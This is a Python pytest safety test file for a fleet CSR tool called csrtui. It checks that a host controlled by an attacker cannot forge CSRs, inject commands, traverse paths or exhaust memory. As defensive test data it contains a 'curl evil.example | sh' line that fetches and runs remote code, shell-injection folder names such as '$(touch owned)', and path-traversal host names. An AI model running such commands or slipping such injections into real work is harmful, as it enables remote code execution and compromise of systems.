"""An attacker who controls a host cannot substitute a CSR, run a command, destroy state or exhaust memory here."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
from typing import TYPE_CHECKING, Any

import pytest
from command import ROOT
from fake_ansible import printed
from fleet_made import listed, made, pair, pair_for
from recipients_made import age_pair
from safety_results import counted

from csrtui.core.base.errors import StoreError
from csrtui.core.certificates import csr
from csrtui.core.keys import key_types
from csrtui.core.subject.fields import SubjectFields
from csrtui.fleet.host_states import load_state
from csrtui.store.keystore import Keystore

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from command import Csrtui
    from fake_ansible import FakeAnsible

pytestmark = pytest.mark.safety

PROMISE = "A host that an attacker controls does no harm on this machine"
SHOP, BANK = "shop.www3.mydomain.com", "www.bank.com"
COMMAND = "curl evil.example | sh"
MEGABYTE = "x" * 1024 * 1024
FILE = f"web1.{SHOP}.csr.pem"


def csr_of(*names: str, key: key_types.PrivateKey | None = None, **subject: str) -> bytes:
    fields = SubjectFields(common_name=names[0], attributes=(), **subject)
    return csr.build(fields, names, key or key_types.generate(key_types.KeyType.EC_P256))


def unsigned(der: bytes) -> bytes:
    return der[:-1] + bytes([der[-1] ^ 1])


def fetched(*ders: bytes) -> dict[str, Any]:
    return {"rc": 0, "stdout": "".join(csr.to_pem(der).decode() for der in ders), "stderr": ""}


def claiming(document: dict[str, Any], der: bytes) -> dict[str, Any]:
    """Return a listed pair with the digest of the CSR that will be sent. Earlier versions compared only this digest."""
    return document | {"request": {"sha256": csr.read_der(der).sha256, "signature_hash": "sha256"}}


def with_key_of(document: dict[str, Any], der: bytes) -> dict[str, Any]:
    return document | {
        "key": {"type": "ec-p256", "encrypted": False, "spki_sha256": csr.read_der(der).spki_sha256}
    }


FORGERIES: dict[str, tuple[Callable[[], bytes], str]] = {
    "other names": (lambda: csr_of(BANK), f"names: listed {SHOP}, sent {BANK}"),
    "one more name": (lambda: csr_of(SHOP, BANK), f"names: listed {SHOP}, sent {SHOP}, {BANK}"),
    "another subject": (
        lambda: csr_of(SHOP, organization="Bank"),
        f"subject: listed CN={SHOP}, sent CN={SHOP},O=Bank",
    ),
    "no signature of its own": (
        lambda: unsigned(csr_of(SHOP)),
        "signature: not made with the key in the CSR",
    ),
}


@pytest.mark.parametrize("forgery", FORGERIES)
def test_a_csr_that_differs_from_the_list_is_refused_by_name(
    fake: FakeAnsible, fleet: Any, tmp_path: Path, forgery: str
) -> None:
    make, difference = FORGERIES[forgery]
    der = make()
    document = with_key_of(claiming(pair_for(SHOP)[0], der), der)
    with counted(PROMISE, "CSRs that differ from the host's list") as tally:
        for options in ((), ("--json",)):
            fake.answers({"web1": listed(document)})
            fake.answers({"web1": fetched(der)})
            ran = fleet("csr", "--to", str(tmp_path), *options)
            assert ran.status == 1
            assert difference in ran.out + ran.err
            assert list(tmp_path.glob("*.pem")) == []
            assert [line["reason"] for line in ran.json_lines if options] == ["mismatch"] * len(options)
            tally.add()


def test_a_csr_with_another_key_is_refused_by_name(fake: FakeAnsible, fleet: Any, tmp_path: Path) -> None:
    der = csr_of(SHOP)
    fake.answers({"web1": listed(claiming(pair_for(SHOP)[0], der))})
    fake.answers({"web1": fetched(der)})
    with counted(PROMISE, "CSRs that differ from the host's list") as tally:
        ran = fleet("csr", "--to", str(tmp_path))
        assert (ran.status, list(tmp_path.glob("*.pem"))) == (1, [])
        assert f"sent {csr.read_der(der).spki_sha256[:15]}" in ran.error
        tally.add()


def test_a_csr_is_not_accepted_for_another_pair_of_the_host(
    fake: FakeAnsible, fleet: Any, tmp_path: Path
) -> None:
    shop, bank = pair_for(SHOP), pair_for(BANK)
    sent = [csr.read_pem(pem.encode()).der for _, pem in (bank, shop)]
    fake.answers({"web1": listed(shop[0], bank[0])})
    fake.answers({"web1": fetched(*sent)})
    assert fleet("csr", "--to", str(tmp_path)).status == 0
    assert (tmp_path / FILE).read_text() == shop[1]
    assert (tmp_path / f"web1.{BANK}.csr.pem").read_text() == bank[1]


def test_a_list_that_shows_another_name_than_its_pair_is_for_is_refused(
    fake: FakeAnsible, fleet: Any, tmp_path: Path
) -> None:
    document, pem = pair_for(BANK, name=SHOP)
    fake.answers({"web1": listed(document)})
    fake.answers({"web1": {"rc": 0, "stdout": pem, "stderr": ""}})
    with counted(PROMISE, "CSRs that differ from the host's list") as tally:
        ran = fleet("csr", SHOP, "--to", str(tmp_path))
        assert (ran.status, list(tmp_path.glob("*.pem"))) == (1, [])
        assert f"the pair is listed as {SHOP}, the CSR is for {BANK}" in ran.error
        tally.add()


def test_the_displayed_list_counts_until_a_new_one_is_displayed(
    fake: FakeAnsible, fleet: Any, tmp_path: Path
) -> None:
    shown, (other, pem) = pair_for(SHOP, name="site")[0], pair_for(BANK, name="site")
    fake.answers({"web1": listed(shown)})
    assert fleet("list").status == 0
    with counted(PROMISE, "pairs that a host lists differently the second time") as tally:
        for command in (
            ("csr", "site", "--to", str(tmp_path)),
            ("backup", "--to", "/b"),
            ("csr", "--to", str(tmp_path)),
        ):
            more = ("--recipient", RECIPIENT) if command[0] == "backup" else ()
            fake.answers({"web1": listed(other | {"backup": {"status": "verified", "path": "/b"}})})
            ran = fleet(*command, *more)
            if command[0] == "csr":
                assert ran.status == 1
                assert f"names: shown {SHOP}, now {BANK}" in ran.error
                assert "csrtui fleet list shows the current list" in ran.err
                assert list(tmp_path.glob("*.pem")) == []
                tally.add()
    for expected in (1, 0):  # the failure is shown once
        fake.answers({"web1": listed(other, pair())})
        ran = fleet("list")
        assert ran.status == expected
        assert (
            f"a pair differs from the one listed before: site: names: shown {SHOP}, now {BANK}" in ran.err
        ) is bool(expected)
    fake.answers({"web1": listed(other)})
    fake.answers({"web1": {"rc": 0, "stdout": pem, "stderr": ""}})
    ran = fleet("csr", "--to", str(tmp_path), "--json")
    assert (ran.status, ran.json_lines[0]["covers"]) == (0, [BANK])


RECIPIENT = age_pair()[1]


def test_the_names_of_each_csr_are_printed(fake: FakeAnsible, fleet: Any, tmp_path: Path) -> None:
    document, pem = pair_for(SHOP, "mydomain.com")
    for text in ("CSR fetched", "the CSR already exists"):
        fake.answers({"web1": listed(document)})
        fake.answers({"web1": {"rc": 0, "stdout": pem, "stderr": ""}})
        ran = fleet("csr", "--to", str(tmp_path))
        assert ran.status == 0
        assert ran.out == f"ok  web1  {SHOP}  {tmp_path / FILE}  {text}, covers {SHOP}, mydomain.com\n"


@pytest.mark.parametrize("host", ["../../x", "/etc/x", "a\0b", "a\nb", "\x1b[2J", "-x", "..", "a\ud800"])
def test_the_name_of_a_host_is_never_a_path(
    fake: FakeAnsible, fleet: Any, tmp_path: Path, csrtui: Csrtui, host: str
) -> None:
    folder = tmp_path / "csrs"
    folder.mkdir()
    document, pem = pair_for(SHOP)
    fake.answers({host: listed(document)})
    assert fleet("list").status == 0
    fake.answers({host: listed(document)})
    fake.answers({host: {"rc": 0, "stdout": pem, "stderr": ""}})
    ran = fleet("csr", "--to", str(folder), "--json")
    assert (ran.status, ran.json_lines[0]["host"]) == (0, host)
    (file,) = folder.iterdir()
    assert file.name.endswith(f".{SHOP}.csr.pem")
    assert file.name.isprintable()
    (state,) = csrtui.store.glob(".hosts/*")
    assert set(state.name) <= set("0123456789abcdef-.json")
    assert [line["host"] for line in fleet("list", "--last", "--json").json_lines] == [host]


def test_a_pair_that_differs_from_the_preview_is_refused_by_name(fake: FakeAnsible, fleet: Any) -> None:
    fake.holds({"web1": {}})
    good = made("x.mydomain.com")
    wrong: dict[str, dict[str, Any]] = {
        "names: planned x.mydomain.com, made www.bank.com": made(BANK),
        "subject: planned CN=x.mydomain.com, made CN=x.mydomain.com,O=Bank": made(
            "x.mydomain.com", organization="Bank"
        ),
        "key: listed": made("x.mydomain.com") | {"csr": csr.to_pem(csr_of("x.mydomain.com")).decode()},
        "signature: not made": made("x.mydomain.com")
        | {"csr": csr.to_pem(unsigned(csr_of("x.mydomain.com"))).decode()},
        "cannot be read": good | {"csr": "x"},
        "path has a string of 1048576 characters": good | {"pair": good["pair"] | {"path": MEGABYTE}},
        "name: not valid in csrtui": good | {"pair": good["pair"] | {"name": f"; {COMMAND}"}},
    }
    with counted(PROMISE, "pairs that differ from the preview") as tally:
        for difference, answer in wrong.items():
            fake.answers({"web1": answer})
            ran = fleet("new", "x.mydomain.com", "--yes", "--ca", "private")
            assert (ran.status, ran.out) == (1, ""), difference
            assert difference in ran.err
            assert COMMAND not in ran.err
            tally.add()


def test_no_text_of_a_host_is_a_command_and_each_text_is_cut(fake: FakeAnsible, fleet: Any) -> None:
    long = f"{COMMAND} {MEGABYTE}"
    finding = dict.fromkeys(("code", "level", "pair", "path", "text", "remedy"), long)
    result = {"ok": False, "pair": long, "file": long, "text": long}
    failed = {"rc": 3, "stdout": "", "stderr": f"csrtui: error: {long}\nhint: {COMMAND}\n", "ended": "failed"}
    module = {"ended": "failed", "msg": f"{long} ({COMMAND})", "reason": "missing", "remedy": COMMAND}
    answers: list[tuple[tuple[str, ...], dict[str, Any]]] = [
        (("list",), failed),
        (("list",), module),
        (("list",), {"ended": "unreachable", "msg": long}),
        (("list",), {"rc": 139, "stdout": long, "stderr": "", "ended": "failed"}),
        (("list",), printed({"schema": long})),
        *((("list",), listed(pair(**{field: long}))) for field in ("subject", "path", "platform", "renews")),
        (("list",), listed(pair(names=[long]))),
        (("doctor",), printed({"schema": 1, "findings": [finding]}, 1)),
    ]
    with counted(PROMISE, "texts of 1 MB, and commands as hints") as tally:
        for options in ((), ("--json",)):
            for command, answer in answers:
                fake.answers({"web1": answer})
                ran = fleet(*command, *options)
                assert ran.status == 1
                assert len(ran.out) + len(ran.err) < 2500
                hints = [line for line in ran.err.splitlines() if line.startswith("hint:")]
                assert not any(COMMAND in line for line in hints)
                for line in ran.json_lines if options else ():
                    assert COMMAND not in line["remedy"]
                tally.add()
        fake.answers({"web1": listed(pair())})
        fake.answers({"web1": printed({"schema": 1, "results": [result]}, 1)})
        ran = fleet("backup", "--to", "/b", "--recipient", RECIPIENT)
        assert ran.status == 1
        assert len(ran.err) < 2500
        tally.add()


def states(csrtui: Csrtui) -> dict[str, int]:
    """Return the number of saved pairs for each host."""
    found = (load_state(path.read_bytes()) for path in csrtui.store.glob(".hosts/*.json"))
    return {state.name: len(state.documents) for state in found if state is not None}


def test_a_host_cannot_destroy_the_state_of_another_one(
    fake: FakeAnsible, fleet: Any, csrtui: Csrtui
) -> None:
    with counted(PROMISE, "answers of one host that could destroy the state of the others") as tally:
        fake.answers({"web1": listed(pair()), "web2": listed(pair(), pair("b.com")), "web3": listed(pair())})
        assert fleet("list").status == 0
        fake.answers({"web2": listed(pair())})
        assert fleet("list", "--limit", "web2").status == 0
        assert states(csrtui) == {"web1": 1, "web2": 1, "web3": 1}
        many = [pair(f"n{number}.com") for number in range(10_001)]
        fake.answers({"web1": listed(*many), "web2": listed(pair()), "../../etc/x": listed(pair())})
        ran = fleet("list")
        assert "web1: the list of its pairs cannot be read: pairs has 10001 items, more than 10000" in ran.err
        assert "a larger keystore must be split" in ran.err
        assert states(csrtui) == {"web1": 1, "web2": 1, "web3": 1, "../../etc/x": 1}
        assert len(list(csrtui.store.glob(".hosts/*"))) == 4
        assert fleet("list", "--last").out.count("a.com") == 4
        tally.add(3)


def test_a_state_that_cannot_be_written_does_not_affect_other_states(
    fake: FakeAnsible, fleet: Any, csrtui: Csrtui, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake.answers({"web1": listed(pair()), "web2": listed(pair())})
    assert fleet("list").status == 0
    save = Keystore.save_host
    calls: list[str] = []

    def full_at_first(store: Keystore, inventory: str, host: str, data: bytes) -> None:
        calls.append(host)
        if len(calls) == 1:
            raise StoreError("the disk is full", "make room")
        save(store, inventory, host, data)

    monkeypatch.setattr(Keystore, "save_host", full_at_first)
    fake.answers({"web1": listed(), "web2": listed(pair(), pair("b.com"))})
    ran = fleet("list")
    assert (ran.status, ran.error) == (3, "the disk is full")
    assert states(csrtui) == {"web1": 1, "web2": 2}


def test_a_state_above_the_size_limit_is_not_saved(fake: FakeAnsible, fleet: Any, csrtui: Csrtui) -> None:
    # Decoded numbers can be longer when written again: 1e16 is 10000000000000000.0.
    numbers = {f"m{at}": "NUMBERS" for at in range(10)}
    pairs = [pair(f"n{at}.com", **numbers) for at in range(90)]
    out = json.dumps({"schema": 1, "pairs": pairs}).replace('"NUMBERS"', f"[{','.join(['1e15'] * 999)}]")
    fake.answers({"web1": listed(pair())})
    assert fleet("list").status == 0
    fake.answers({"web1": {"rc": 0, "stdout": out, "stderr": "", "changed": False}})
    ran = fleet("list")
    assert "web1: its answer has more than 16 MiB or 10000 pairs" in ran.err
    assert states(csrtui) == {"web1": 1}


_PROGRAM = """#!{python}
import sys
sys.stdout.write('{{"hosts": ["web1"]}}\\n')
sys.stdout.write('{{"host": "web1", "ended": "ok", "result": {{"rc": 0, "stdout": "')
for at in range({times}):
    sys.stdout.write({piece!r}.replace("NUMBER", str(at)))
sys.stdout.write('"}}}}\\n')
"""
_MEASURED = r"""
import re, sys
from csrtui.fleet import ansible
program, *arguments = sys.argv[1:]
ansible._program = lambda _name: program
from csrtui.cli.main import run
status = run(arguments, open_screens=lambda *_: 0)
peak = re.search(r"VmHWM:\s+(\d+)", open("/proc/self/status").read())  # ru_maxrss may be that of pytest
print(status, int(peak[1]) // 1024, file=sys.stderr)
"""


@pytest.mark.parametrize(
    ("piece", "times"),
    [
        pytest.param(json.dumps(json.dumps(pair("nNUMBER.com")))[1:-1] + ",", 100_000, id="100,000 pairs"),
        pytest.param("{}," * 1000, 5_000, id="empty objects", marks=pytest.mark.slow),
        pytest.param("x" * 1000, 200_000, id="200 MB of text", marks=pytest.mark.slow),
        pytest.param("\\ud83d\\ude00" * 1000, 1_300, id="wide characters", marks=pytest.mark.slow),
    ],
)
def test_an_unlimited_answer_is_refused_with_limited_memory(tmp_path: Path, piece: str, times: int) -> None:
    (tmp_path / "hosts.ini").write_text("web1\n")
    program = tmp_path / "ansible-playbook"
    program.write_text(_PROGRAM.format(python=sys.executable, times=times, piece=piece))
    program.chmod(0o755)
    options = ["--store", str(tmp_path / "store"), "fleet", "list", "-i", str(tmp_path / "hosts.ini")]
    with counted(PROMISE, "answers of unlimited size") as tally:
        done = subprocess.run(
            [sys.executable, "-c", _MEASURED, str(program), *options],
            capture_output=True,
            text=True,
            check=True,
            cwd=ROOT,
        )
        *said, measured = done.stderr.splitlines()
        status, megabytes = map(int, measured.split())
        assert status == 1
        assert any(line.startswith("csrtui: error: web1: ") for line in said)
        assert megabytes < 250
        tally.add()


@pytest.mark.parametrize("folder", ["a b; touch owned", "$(touch owned)", "'", "\x1b[2J", "-x"])
def test_the_hint_for_a_missing_folder_creates_only_that_folder(
    fake: FakeAnsible, fleet: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, folder: str
) -> None:
    monkeypatch.chdir(tmp_path)
    fake.answers({"web1": listed(pair())})
    ran = fleet("csr", f"--to={folder}")
    assert ran.status == 2
    (hint,) = [line.removeprefix("hint: ") for line in ran.err.splitlines() if line.startswith("hint: ")]
    subprocess.run(["bash", "-c", hint], check=True)
    assert os.path.isdir(folder)
    assert not os.path.exists("owned")
    assert shlex.split(hint)[:2] == ["mkdir", "-p"]
